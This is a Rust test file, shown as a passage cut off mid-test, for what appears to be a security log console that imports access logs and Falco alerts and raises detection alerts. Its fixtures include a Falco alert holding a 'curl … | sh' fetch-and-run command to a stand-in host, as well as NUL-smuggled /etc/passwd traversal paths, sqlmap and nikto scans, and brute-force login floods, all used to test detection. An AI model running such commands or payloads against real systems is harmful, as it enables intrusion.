//! Whole-file intake and the headless lists: every line is accounted for, and what is stored is
//! what the console's filter language finds.

use std::io::Write;
use std::process::Stdio;

use crate::support::BIN;

fn rampart(db: &std::path::Path, args: &[&str], stdin: Option<&str>) -> (i32, String, String) {
    let mut child = crate::support::rampart()
        .args(["--db", db.to_str().unwrap()])
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut input = child.stdin.take().unwrap();
    // A command that refuses may exit before it reads: its closed pipe is no failure of the test.
    match input.write_all(stdin.unwrap_or("").as_bytes()) {
        Err(e) if e.kind() == std::io::ErrorKind::BrokenPipe => {}
        other => other.unwrap(),
    }
    drop(input);
    let out = child.wait_with_output().unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// A new store and a combined-format log of `n` requests, the i-th for `path(i)` with `i` bytes.
fn store_and_log(
    n: usize,
    path: impl Fn(usize) -> String,
) -> (tempfile::TempDir, rusqlite::Connection, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("access.log");
    let text: String = (0..n)
        .map(|i| {
            let path = path(i);
            format!("203.0.113.1 - - [26/Nov/2026:10:00:00 +0000] \"GET {path} HTTP/1.1\" 200 {i} \"-\" \"curl\"\n")
        })
        .collect();
    std::fs::write(&log, text).unwrap();
    let conn = rampart::store::open(&dir.path().join("i.db"), rampart::store::Access::ReadWrite).unwrap();
    (dir, conn, log)
}

#[test]
fn an_access_log_is_imported_line_for_line() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("i.db");
    let log = dir.path().join("access.log");
    let mut text = String::new();
    for i in 0..500 {
        let status = if i % 10 == 0 { 401 } else { 200 };
        text.push_str(&format!(
            "203.0.113.{} - - [26/Nov/2026:10:{:02}:{:02} +0000] \"POST /login HTTP/1.1\" {status} 312 \"-\" \"curl/8.5.0\"\n",
            i % 250 + 1,
            i / 60,
            i % 60
        ));
    }
    text.push_str("garbage that is not a log line\n");
    text.push_str(
        "2001:db8::9 - eve [26/Nov/2026:11:00:00 +0100] \"GET /x HTTP/1.1\" 404 - \"-\" \"a \\\"quoted\\\" agent\"\n",
    );
    std::fs::write(&log, text).unwrap();
    let (code, _, err) = rampart(&db, &["ingest", "access", log.to_str().unwrap(), "--tenant", "acme"], None);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("502 lines, 501 stored, 1 not parsed"), "{err}");
    assert!(
        err.contains("line 501: not in the combined format (host ident user [time]"),
        "the rejected line is named: {err}"
    );
    let (_, out, _) =
        rampart(&db, &["access", "list", "--json", "--filter", "status:401 tenant:acme", "--limit", "1000"], None);
    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(rows.as_array().unwrap().len(), 50);
    let (_, out, _) = rampart(&db, &["access", "list", "--json", "--filter", "ip:2001:DB8::9"], None);
    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(rows[0]["user_agent"], "a \"quoted\" agent");
    assert_eq!(rows[0]["time"], "2026-11-26T10:00:00.000Z", "+0100 taken into account");
}

#[test]
fn a_stray_byte_costs_one_character_not_the_import() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("i.db");
    let log = dir.path().join("access.log");
    let mut bytes = Vec::new();
    bytes.extend_from_slice(
        b"203.0.113.1 - - [26/Nov/2026:10:00:00 +0000] \"GET /a HTTP/1.1\" 200 1 \"-\" \"agent \xff\xfe\"\r\n",
    );
    bytes.extend_from_slice(b"203.0.113.2 - - [26/Nov/2026:10:00:01 +0000] \"GET /b HTTP/1.1\" 200 1 \"-\" \"curl\"");
    std::fs::write(&log, bytes).unwrap();
    let (code, _, err) = rampart(&db, &["ingest", "access", log.to_str().unwrap()], None);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("2 lines, 2 stored, 0 not parsed"), "the last line needs no newline: {err}");
    let (_, out, _) = rampart(&db, &["access", "list", "--json", "--filter", "path:/a"], None);
    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(rows[0]["user_agent"], "agent \u{fffd}\u{fffd}");
}

/// A time offset whose four bytes hold a multi-byte character split the parser's slice in two: the
/// import (and a collector following a tenant's log, which parses the same way) panicked.
#[test]
fn a_hostile_time_offset_is_a_line_not_parsed_not_a_crash() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("i.db");
    let log = dir.path().join("access.log");
    let text = "203.0.113.1 - - [26/Nov/2026:10:00:00 +0\u{e9}0] \"GET /a HTTP/1.1\" 200 1 \"-\" \"curl\"\n\
                203.0.113.2 - - [26/Nov/2026:10:00:01 +0000] \"GET /b HTTP/1.1\" 200 1 \"-\" \"curl\"\n";
    std::fs::write(&log, text).unwrap();
    let (code, _, err) = rampart(&db, &["ingest", "access", log.to_str().unwrap()], None);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("2 lines, 1 stored, 1 not parsed"), "{err}");
    assert!(err.contains("the time is not written as"), "the line is counted with why: {err}");
}

#[test]
fn an_import_the_store_stops_keeps_its_committed_transactions_and_says_how_many() {
    let (_dir, conn, log) = store_and_log(120_000, |i| if i == 70_000 { "/refused".into() } else { "/ok".into() });
    conn.execute_batch(
        "CREATE TEMP TRIGGER refuse BEFORE INSERT ON access_events WHEN NEW.path = '/refused' \
         BEGIN SELECT RAISE(FAIL, 'refused'); END",
    )
    .unwrap();
    let err = rampart::ingest::access_file(&conn, &log, "acme", Default::default()).unwrap_err().to_string();
    let said: i64 = err
        .strip_prefix("the store refused a write after ")
        .and_then(|rest| rest.strip_suffix(" rows were stored: refused"))
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("{err}"));
    let stored: i64 = conn.query_row("SELECT count(*) FROM access_events", [], |r| r.get(0)).unwrap();
    assert_eq!(stored, said, "what the error says is what is there");
    // A full batch is 50,000 rows; a parser held up (a loaded machine) commits what it gave sooner.
    assert!((1..70_000).contains(&stored), "the transactions before it, nothing of the failed one: {stored}");
    let refused: i64 = conn.query_row("SELECT max(bytes) FROM access_events", [], |r| r.get(0)).unwrap();
    assert_eq!(refused, stored - 1, "rows in file order, with no gap");
}

/// An import's write-ahead log stays bounded however big its file: beside a checkpointer that
/// never quite catches up, SQLite starts a log over only when a write finds it wholly copied, and
/// an import's log that was never started over grew as big as its store (1.2 GB at 10M rows).
#[test]
fn an_imports_write_ahead_log_stays_bounded() {
    let long = "x".repeat(1_000);
    let (dir, conn, log) = store_and_log(200_000, |i| format!("/{i}/{long}"));
    let page: u64 = conn.query_row("PRAGMA page_size", [], |r| r.get(0)).unwrap();
    let wal = dir.path().join("i.db-wal");
    let done = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    // The log's file only grows until the import ends (a log started over is written from its
    // beginning again), so its largest size is what a look every few milliseconds sees last.
    let watcher = {
        let done = done.clone();
        std::thread::spawn(move || {
            let mut largest = 0;
            while !done.load(std::sync::atomic::Ordering::Relaxed) {
                largest = largest.max(std::fs::metadata(&wal).map_or(0, |m| m.len()));
                std::thread::sleep(std::time::Duration::from_millis(2));
            }
            largest
        })
    };
    let counts = rampart::ingest::access_file(&conn, &log, "acme", Default::default()).unwrap();
    done.store(true, std::sync::atomic::Ordering::Relaxed);
    let largest = watcher.join().unwrap();
    assert_eq!((counts.stored, counts.unparsed), (200_000, 0));
    let stored = std::fs::metadata(dir.path().join("i.db")).unwrap().len();
    let bound = 2 * rampart::store::transaction::WAL_LIMIT_FRAMES as u64 * page;
    assert!(stored > bound, "the store ({stored} bytes) is bigger than the log may be");
    assert!((1..=bound).contains(&largest), "the log reached {largest} bytes (bound {bound})");
}

#[test]
fn an_import_while_a_console_reads_the_store_completes() {
    let (dir, conn, log) = store_and_log(120_000, |i| format!("/{i}"));
    let path = dir.path().join("i.db");
    // A console in the middle of reading a window: its snapshot must not fail the import.
    let console = rampart::store::open(&path, rampart::store::Access::ReadOnly).unwrap();
    console.execute_batch("BEGIN").unwrap();
    let before: i64 = console.query_row("SELECT count(*) FROM access_events", [], |r| r.get(0)).unwrap();
    let counts = rampart::ingest::access_file(&conn, &log, "acme", Default::default()).unwrap();
    assert_eq!((counts.lines, counts.stored, counts.unparsed), (120_000, 120_000, 0));
    let during: i64 = console.query_row("SELECT count(*) FROM access_events", [], |r| r.get(0)).unwrap();
    assert_eq!((before, during), (0, 0), "the reader keeps its snapshot");
    console.execute_batch("COMMIT").unwrap();
    let after: i64 = console.query_row("SELECT count(*) FROM access_events", [], |r| r.get(0)).unwrap();
    assert_eq!(after, 120_000, "and sees every row once it reads again");
}

#[test]
fn falco_piped_in_live_is_stored_as_it_comes_not_when_the_pipe_closes() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("f.db");
    let alert = |n: usize| {
        format!(
            "{{\"output\":\"shell {n}\",\"priority\":\"Critical\",\"rule\":\"Terminal shell in container\",\
             \"time\":\"2026-11-26T11:00:0{n}Z\",\"output_fields\":{{}}}}\n"
        )
    };
    let mut falco = crate::support::rampart()
        .args(["--db", db.to_str().unwrap(), "ingest", "falco", "-"])
        .stdin(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut pipe = falco.stdin.take().unwrap();
    pipe.write_all(format!("{}{}", alert(1), alert(2)).as_bytes()).unwrap();
    pipe.flush().unwrap();
    let stored = || {
        let (_, out, _) = rampart(&db, &["alerts", "list", "--json"], None);
        serde_json::from_str::<serde_json::Value>(&out).map_or(0, |v| v.as_array().map_or(0, Vec::len))
    };
    crate::support::wait_for("two alerts written, the pipe open, stored", stored, |n| *n >= 2);
    pipe.write_all(alert(3).as_bytes()).unwrap();
    drop(pipe);
    let out = falco.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{err}");
    assert!(err.contains("3 lines, 3 stored, 0 not parsed"), "{err}");
    assert_eq!(stored(), 3);
}

#[test]
fn falco_output_is_imported_from_standard_input() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("f.db");
    let lines = [
        r#"{"hostname":"h1","output":"A shell was spawned","output_fields":{"container.id":"3ad7d6c1e9a1","container.name":"globex-web-1","proc.cmdline":"bash"},"priority":"Critical","rule":"Terminal shell in container","source":"syscall","tags":["container","shell"],"time":"2026-11-26T11:54:56.789012345Z"}"#,
        r#"{"output":"Sensitive file opened","priority":"Info","rule":"Read sensitive file untrusted","time":"2026-11-26T11:00:00Z","output_fields":{"fd.name":"/etc/shadow"}}"#,
        r#"{"rule": "half a line"#,
    ];
    let (code, _, err) = rampart(&db, &["ingest", "falco", "-"], Some(&lines.join("\n")));
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("3 lines, 2 stored, 1 not parsed"), "{err}");
    let (_, out, _) = rampart(&db, &["alerts", "list", "--json", "--priority", "warning"], None);
    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(rows.as_array().unwrap().len(), 1, "{out}");
    assert_eq!(rows[0]["rule"], "Terminal shell in container");
    assert_eq!(rows[0]["tags"], serde_json::json!(["container", "shell"]));
    let (_, out, _) = rampart(&db, &["alerts", "list"], None);
    assert!(out.contains("Informational") && out.contains("Critical"), "{out}");
    let (code, _, err) = rampart(&db, &["access", "list", "--priority", "warning"], None);
    assert_eq!(code, 2, "--priority is not an option of access list: {err}");
    assert!(err.contains("unexpected argument '--priority'"), "{err}");
}

/// A combined-format line from `ip` at minute `m` of 10:00.
fn line(ip: &str, m: usize, status: &str) -> String {
    format!("{ip} - - [26/Nov/2026:10:{m:02}:00 +0000] \"GET /p HTTP/1.1\" {status} 10 \"-\" \"curl\"\n")
}

#[test]
fn a_file_where_nothing_parses_fails_and_says_why_in_words() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("i.db");
    let log = dir.path().join("error.log");
    let text: String = (0..793).map(|i| format!("[error] {i} upstream timed out\n")).collect();
    std::fs::write(&log, text).unwrap();
    let (code, _, err) = rampart(&db, &["ingest", "access", log.to_str().unwrap()], None);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("793 lines, 0 stored, 793 not parsed"), "{err}");
    assert!(
        err.contains(&format!(
            "nothing in {} was stored: none of its lines is a combined-format access log line",
            log.display()
        )),
        "{err}"
    );
    let mixed = dir.path().join("mixed.log");
    let text = [line("203.0.113.1", 1, "200"), line("203.0.113.2", 2, "OK"), line("999.1.1.1", 3, "200")].concat();
    std::fs::write(&mixed, text).unwrap();
    let (code, _, err) = rampart(&db, &["ingest", "access", mixed.to_str().unwrap()], None);
    assert_eq!(code, 0, "one line stored is an import: {err}");
    assert!(err.contains("3 lines, 1 stored, 2 not parsed"), "{err}");
    assert!(err.contains("line 2: no status code"), "{err}");
    assert!(err.contains("line 3: the client address is not an IP address"), "999.1.1.1 is not an address: {err}");
    let (_, out, _) = rampart(&db, &["access", "list", "--json"], None);
    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(rows.as_array().unwrap().len(), 1, "{out}");
}

#[test]
fn a_directory_is_named_in_the_error() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("i.db");
    let logs = dir.path().join("logs");
    std::fs::create_dir(&logs).unwrap();
    let (code, _, err) = rampart(&db, &["ingest", "access", logs.to_str().unwrap()], None);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains(&format!("cannot read {}: it is a directory", logs.display())), "{err}");
    let (code, _, err) = rampart(&db, &["ingest", "falco", logs.to_str().unwrap()], None);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains(&format!("cannot read {}: it is a directory", logs.display())), "{err}");
}

#[test]
fn the_same_file_imported_twice_is_recognised_and_skipped() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("i.db");
    let log = dir.path().join("access.log");
    std::fs::write(&log, (0..50).map(|m| line("203.0.113.9", m, "200")).collect::<String>()).unwrap();
    let stored = || {
        let conn = rampart::store::open(&db, rampart::store::Access::ReadOnly).unwrap();
        conn.query_row("SELECT count(*) FROM access_events", [], |r| r.get::<_, i64>(0)).unwrap()
    };
    let (code, _, err) = rampart(&db, &["ingest", "access", log.to_str().unwrap()], None);
    assert_eq!((code, stored()), (0, 50), "{err}");
    let (code, _, err) = rampart(&db, &["ingest", "access", log.to_str().unwrap()], None);
    assert_eq!((code, stored()), (0, 50), "not stored twice: {err}");
    assert!(err.contains(&format!("{}: skipped — the store already holds this file's lines", log.display())), "{err}");
    assert!(err.contains("--again imports it again"), "{err}");
    // The same file under another name (rotated, copied) is the same file.
    let copy = dir.path().join("access.log.1");
    std::fs::copy(&log, &copy).unwrap();
    let (_, _, err) = rampart(&db, &["ingest", "access", copy.to_str().unwrap()], None);
    assert_eq!(stored(), 50, "{err}");
    // A file that grew is another file; --again imports one that was imported before.
    std::fs::write(&log, (0..51).map(|m| line("203.0.113.9", m % 60, "200")).collect::<String>()).unwrap();
    rampart(&db, &["ingest", "access", log.to_str().unwrap()], None);
    assert_eq!(stored(), 101);
    rampart(&db, &["ingest", "access", log.to_str().unwrap(), "--again"], None);
    assert_eq!(stored(), 152);
    // Falco files likewise.
    let falco = dir.path().join("events.json");
    let alert = r#"{"output":"x","priority":"Critical","rule":"Terminal shell in container","time":"2026-11-26T11:00:00Z","output_fields":{}}"#;
    std::fs::write(&falco, format!("{alert}\n")).unwrap();
    rampart(&db, &["ingest", "falco", falco.to_str().unwrap()], None);
    let (code, _, err) = rampart(&db, &["ingest", "falco", falco.to_str().unwrap()], None);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("skipped"), "{err}");
    let (_, out, _) = rampart(&db, &["alerts", "list", "--json"], None);
    assert_eq!(serde_json::from_str::<serde_json::Value>(&out).unwrap().as_array().unwrap().len(), 1);
}

#[test]
fn read_only_refuses_to_ingest() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("i.db");
    let log = dir.path().join("access.log");
    std::fs::write(&log, line("203.0.113.9", 1, "200")).unwrap();
    let (code, _, err) = rampart(&db, &["--read-only", "ingest", "access", log.to_str().unwrap()], None);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("refused: read-only (started with --read-only); nothing was done"), "{err}");
    let (code, _, err) = rampart(&db, &["ingest", "falco", "--read-only", "-"], Some("{}\n"));
    assert_eq!(code, 2, "{err}");
    assert!(!db.exists(), "the store was not even created");
}

#[test]
fn alerts_list_newest_first_by_the_alerts_own_time() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("f.db");
    let alert = |minute: u32, rule: &str| {
        format!(
            "{{\"output\":\"o\",\"priority\":\"Critical\",\"rule\":\"{rule}\",\"time\":\"2026-11-26T11:{minute:02}:00Z\",\"output_fields\":{{}}}}\n"
        )
    };
    // An older alert arrives last (a late import, a Falco buffer flushed late).
    let input = [alert(30, "middle"), alert(50, "newest"), alert(10, "oldest")].concat();
    let (code, _, err) = rampart(&db, &["ingest", "falco", "-"], Some(&input));
    assert_eq!(code, 0, "{err}");
    let (_, out, _) = rampart(&db, &["alerts", "list", "--json"], None);
    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
    let rules: Vec<&str> = rows.as_array().unwrap().iter().map(|r| r["rule"].as_str().unwrap()).collect();
    assert_eq!(rules, ["newest", "middle", "oldest"]);
    let (_, out, err) = rampart(&db, &["alerts", "list", "--limit", "2"], None);
    let lines: Vec<&str> = out.lines().collect();
    assert!(lines[0].starts_with("TIME (UTC)") && lines[0].contains("PRIORITY") && lines[0].contains("RULE"), "{out}");
    assert!(lines[1].contains("newest") && lines[2].contains("middle") && lines.len() == 3, "{out}");
    assert!(err.contains("1 more — use --limit to see more"), "{err}");
    let (code, out, err) = rampart(&db, &["alerts", "list", "--filter", "rule:nothing-like-this"], None);
    assert_eq!((code, out.as_str()), (0, ""), "{err}");
    assert_eq!(err.trim(), "no rows");
    let (_, out, err) = rampart(&db, &["access", "list"], None);
    assert_eq!((out.as_str(), err.trim()), ("", "no rows"));
}

#[test]
fn a_nul_byte_in_a_log_line_hides_nothing_from_the_lists_json_or_filters() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("n.db");
    let log = dir.path().join("access.log");
    // Sixty lines, so that the import binds its first fifty in one statement and the rest one by one;
    // the hidden payloads are in both parts.
    let text: String = (0..60)
        .map(|i| {
            let (path, agent) =
                if i % 50 == 3 { ("/c\0/../../etc/passwd", "Mozilla/5.0\0 sqlmap/1.7") } else { ("/ok", "curl") };
            format!(
                "203.0.113.{i} - - [26/Nov/2026:10:00:{i:02} +0000] \"GET {path} HTTP/1.1\" 200 1 \"-\" \"{agent}\"\n"
            )
        })
        .collect();
    std::fs::write(&log, text).unwrap();
    let (code, _, err) = rampart(&db, &["ingest", "access", log.to_str().unwrap(), "--tenant", "acme"], None);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("60 lines, 60 stored, 0 not parsed"), "{err}");
    let json = |filter: &str| -> Vec<serde_json::Value> {
        let (code, out, err) = rampart(&db, &["access", "list", "--json", "--filter", filter, "--limit", "100"], None);
        assert_eq!(code, 0, "{err}");
        serde_json::from_str::<serde_json::Value>(&out).unwrap().as_array().unwrap().clone()
    };
    for filter in ["sqlmap", "path:*passwd*", "ua:*sqlmap*"] {
        let rows = json(filter);
        assert_eq!(rows.len(), 2, "{filter} finds what follows the NUL");
        for row in &rows {
            assert_eq!(row["path"], "/c\0/../../etc/passwd", "JSON carries the whole path");
            assert_eq!(row["user_agent"], "Mozilla/5.0\0 sqlmap/1.7", "and the whole user agent");
        }
    }
    assert_eq!(json("path:*/c").len(), 0, "the part before the NUL is not the value");
    let (_, out, _) = rampart(&db, &["access", "list", "--filter", "sqlmap"], None);
    assert_eq!(out.lines().count(), 3, "a header and two rows:\n{out}");
    assert!(out.contains("/c^@/../../etc/passwd  Mozilla/5.0^@ sqlmap/1.7"), "the NUL shown, the rest too:\n{out}");
    // Falco output with an escaped NUL in it.
    let alert = r#"{"output":"shell spawned\u0000; curl http://198.51.100.66/x | sh","priority":"Critical","rule":"Terminal shell in container","time":"2026-11-26T11:00:00Z","output_fields":{}}"#;
    let (code, _, err) = rampart(&db, &["ingest", "falco", "-"], Some(alert));
    assert_eq!(code, 0, "{err}");
    let (_, out, _) = rampart(&db, &["alerts", "list", "--json", "--filter", "198.51.100.66"], None);
    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!(rows[0]["output"], "shell spawned\0; curl http://198.51.100.66/x | sh", "{out}");
    let (_, out, _) = rampart(&db, &["alerts", "list"], None);
    assert!(out.contains("shell spawned^@; curl http://198.51.100.66/x | sh"), "{out}");
}

/// A combined-format line at `t` seconds after 2026-11-26T10:00:00Z.
fn line_at(t: i64, ip: &str, user: &str, request: &str, status: u16, agent: &str) -> String {
    let at = chrono::DateTime::from_timestamp(1_795_687_200 + t, 0).unwrap();
    format!(
        "{ip} - {user} [{}] \"{request} HTTP/1.1\" {status} 12 \"-\" \"{agent}\"\n",
        at.format("%d/%b/%Y:%H:%M:%S %z")
    )
}

/// A night's log: ordinary traffic, then 10,000 failed logins from one address (one a second), then
/// 2,000 sqlmap requests from another: 12,500 lines, more than one chunk of judging.
fn night_log() -> String {
    let mut text = String::new();
    for i in 0..500 {
        text.push_str(&line_at(
            i - 600,
            &format!("198.51.100.{}", i % 50 + 1),
            "-",
            "GET /index.html",
            200,
            "Mozilla/5.0",
        ));
    }
    for i in 0..10_000 {
        text.push_str(&line_at(i, "203.0.113.66", "admin", "POST /login", 401, "python-requests/2.32"));
    }
    for i in 0..2_000 {
        text.push_str(&line_at(3 * 3600 + i, "192.0.2.50", "-", "GET /item?id=1", 200, "sqlmap/1.8.4#stable"));
    }
    text
}

/// The brute force and the scan are one alert each (one incident while the rule's bucket holds
/// anything), at the times they began, not when they were imported.
fn night_alerts() -> Vec<(String, i64, String, String)> {
    vec![
        ("Brute-force login".into(), 1, "10:00:09".into(), "10:00:09".into()),
        ("Web attack pattern".into(), 1, "13:00:00".into(), "13:00:00".into()),
    ]
}

#[test]
fn an_imported_log_is_judged_and_its_attacks_alerted_at_the_time_they_happened() {
    let dir = tempfile::tempdir().unwrap();
    let (db, log) = (dir.path().join("n.db"), dir.path().join("night.log"));
    std::fs::write(&log, night_log()).unwrap();
    let (code, _, err) = rampart(&db, &["ingest", "access", log.to_str().unwrap(), "--tenant", "acme"], None);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("judged 12500 events with the detection rules: 2 alerts raised"), "{err}");
    let conn = rampart::store::open(&db, rampart::store::Access::ReadOnly).unwrap();
    assert_eq!(crate::support::alerts_by_rule(&conn), night_alerts());
    // Each alert follows its attack to the end: how many events, the last one's time.
    let outputs: Vec<String> = conn
        .prepare("SELECT output FROM alerts ORDER BY id")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert!(outputs[0].ends_with("— 10000 events in all, the last at 2026-11-26 12:46:39 UTC"), "{outputs:?}");
    assert!(outputs[1].ends_with("— 2000 events in all, the last at 2026-11-26 13:33:19 UTC"), "{outputs:?}");
    let (_, out, _) =
        rampart(&db, &["alerts", "list", "--json", "--filter", "ip:203.0.113.66", "--limit", "1000"], None);
    let rows: serde_json::Value = serde_json::from_str(&out).unwrap();
    let oldest = rows.as_array().unwrap().iter().map(|r| r["time"].as_str().unwrap()).min().unwrap();
    assert_eq!(oldest, "2026-11-26T10:00:09.000Z", "{out}");
    assert_eq!(rows[0]["tenant"], "acme");
    // Importing something else later judges only that.
    std::fs::write(&log, line_at(5 * 3600, "192.0.2.51", "-", "GET /../../etc/passwd", 404, "curl")).unwrap();
    let (code, _, err) = rampart(&db, &["ingest", "access", log.to_str().unwrap(), "--tenant", "acme"], None);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("judged 1 events with the detection rules: 1 alerts raised"), "{err}");
}

/// Stores `events` straight into the table, as another program would, unjudged.
fn insert_events(conn: &rusqlite::Connection, events: &[rampart::store::access::AccessEvent]) {
    conn.execute_batch("BEGIN").unwrap();
    rampart::store::access::insert_many(conn, events).unwrap();
    conn.execute_batch("COMMIT").unwrap();
}

fn failed_login(t: i64, ip: &str) -> rampart::store::access::AccessEvent {
    rampart::store::access::AccessEvent {
        ts: (1_795_687_200 + t) * 1000,
        tenant: "acme".into(),
        src_ip: ip.into(),
        user: Some("admin".into()),
        method: "POST".into(),
        path: "/login".into(),
        status: 401,
        ..Default::default()
    }
}

#[test]
fn judging_again_or_after_a_restart_raises_nothing_twice() {
    let dir = tempfile::tempdir().unwrap();
    let conn = rampart::store::open(&dir.path().join("r.db"), rampart::store::Access::ReadWrite).unwrap();
    let rules = rampart::detect::Rules::default();
    let judge = || rampart::detect::judge::judge_backlog(&conn, &rules).unwrap();
    // 25 failed logins, one a second: one alert (at the tenth).
    insert_events(&conn, &(0..25).map(|t| failed_login(t, "203.0.113.7")).collect::<Vec<_>>());
    assert_eq!((judge().events, judge().events), (25, 0), "judged once, then nothing is left");
    // The same attack goes on; judged by fresh rules (as after a restart, or by an import after
    // the collector), it is still the attack already alerted on, and its alert is brought up to date.
    insert_events(&conn, &(25..60).map(|t| failed_login(t, "203.0.113.7")).collect::<Vec<_>>());
    let v = judge();
    assert_eq!((v.events, v.alerts), (35, 0));
    let count: i64 = conn
        .query_row("SELECT json_extract(output_fields_json, '$.\"rampart.count\"') FROM alerts", [], |r| r.get(0))
        .unwrap();
    assert_eq!(count, 60);
    // Two minutes later its bucket still holds most of it: the same incident.
    insert_events(&conn, &(129..131).map(|t| failed_login(t, "203.0.113.7")).collect::<Vec<_>>());
    assert_eq!(judge().alerts, 0);
    // Once the bucket has emptied (ten failures leak out in 100 minutes), a new attack is a new alert.
    insert_events(&conn, &(6_200..6_210).map(|t| failed_login(t, "203.0.113.7")).collect::<Vec<_>>());
    assert_eq!(judge().alerts, 1);
    let times: Vec<i64> = conn
        .prepare("SELECT ts FROM alerts ORDER BY id")
        .unwrap()
        .query_map([], |r| r.get(0))
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(times, [(1_795_687_200 + 9) * 1000, (1_795_687_200 + 6_209) * 1000]);
}

#[test]
fn two_processes_judging_at_once_judge_each_event_once() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("c.db");
    let conn = rampart::store::open(&db, rampart::store::Access::ReadWrite).unwrap();
    // 40,000 requests from as many scanners: each raises exactly one alert, so an event judged
    // twice is an alert too many.
    let scans: Vec<_> = (0..40_000i64)
        .map(|i| rampart::store::access::AccessEvent {
            ts: (1_795_687_200 + i) * 1000,
            tenant: "acme".into(),
            src_ip: format!("10.{}.{}.{}", i >> 16, (i >> 8) & 255, i & 255),
            method: "GET".into(),
            path: "/".into(),
            status: 200,
            user_agent: "nikto".into(),
            ..Default::default()
        })
        .collect();
    insert_events(&conn, &scans);
    let judges: Vec<_> = (0..2)
        .map(|_| {
            let db = db.clone();
            std::thread::spawn(move || {
                let conn = rampart::store::open(&db, rampart::store::Access::ReadWrite).unwrap();
                rampart::detect::judge::judge_backlog(&conn, &Default::default()).unwrap()
            })
        })
        .collect();
    let verdicts: Vec<_> = judges.into_iter().map(|j| j.join().unwrap()).collect();
    let (alerts, links, linked): (i64, i64, i64) = conn
        .query_row("SELECT (SELECT count(*) FROM alerts), count(*), count(DISTINCT event) FROM alert_events", [], |r| {
            Ok((r.get(0)?, r.get(1)?, r.get(2)?))
        })
        .unwrap();
    assert_eq!((alerts, links, linked), (40_000, 40_000, 40_000), "{verdicts:?}");
    assert_eq!(verdicts.iter().map(|v| v.events).sum::<u64>(), 40_000, "{verdicts:?}");
    assert_eq!(rampart::store::detections::position(&conn).unwrap(), 40_000);
}

/// `n` requests from as many scanners (nikto), from the `from`-th on: each raises exactly one
/// alert, so an event judged twice is an alert too many and one skipped an alert too few.
fn scanner_log(from: i64, n: i64) -> String {
    (from..from + n)
        .map(|i| line_at(i, &format!("10.{}.{}.{}", i >> 16, (i >> 8) & 255, i & 255), "-", "GET /", 200, "nikto"))
        .collect()
}

/// Alerts, links, events linked, and links whose event is not from the alert's address (which
/// would mean the rules were told the wrong id for a row).
fn links(conn: &rusqlite::Connection) -> (i64, i64, i64, i64) {
    conn.query_row(
        "SELECT (SELECT count(*) FROM alerts), count(*), count(DISTINCT event), \
         count(*) FILTER (WHERE e.src_ip IS NOT a.src_ip) \
         FROM alert_events l JOIN alerts a ON a.id = l.alert LEFT JOIN access_events e ON e.id = l.event",
        [],
        |r| Ok((r.get(0)?, r.get(1)?, r.get(2)?, r.get(3)?)),
    )
    .unwrap()
}

/// The number in "judged N events with the detection rules".
fn judged_in(said: &str) -> u64 {
    let at = said.find("judged ").unwrap_or_else(|| panic!("no verdict in {said}"));
    said[at + 7..].split_whitespace().next().unwrap().parse().unwrap()
}

#[test]
fn an_import_judges_the_backlog_before_it_and_its_own_rows_each_once() {
    let dir = tempfile::tempdir().unwrap();
    let (db, log) = (dir.path().join("b.db"), dir.path().join("scan.log"));
    {
        // 3,000 events another program stored, not judged yet.
        let conn = rampart::store::open(&db, rampart::store::Access::ReadWrite).unwrap();
        let earlier: Vec<_> = scanner_log(0, 3_000)
            .lines()
            .map(|l| rampart::parse::combined::parse(l, "acme", "my-proxy").unwrap())
            .collect();
        insert_events(&conn, &earlier);
    }
    // Several batches of the import's own.
    std::fs::write(&log, scanner_log(3_000, 30_000)).unwrap();
    let (code, _, err) = rampart(&db, &["ingest", "access", log.to_str().unwrap(), "--tenant", "acme"], None);
    assert_eq!(code, 0, "{err}");
    assert!(err.contains("judged 33000 events with the detection rules: 33000 alerts raised"), "{err}");
    let conn = rampart::store::open(&db, rampart::store::Access::ReadOnly).unwrap();
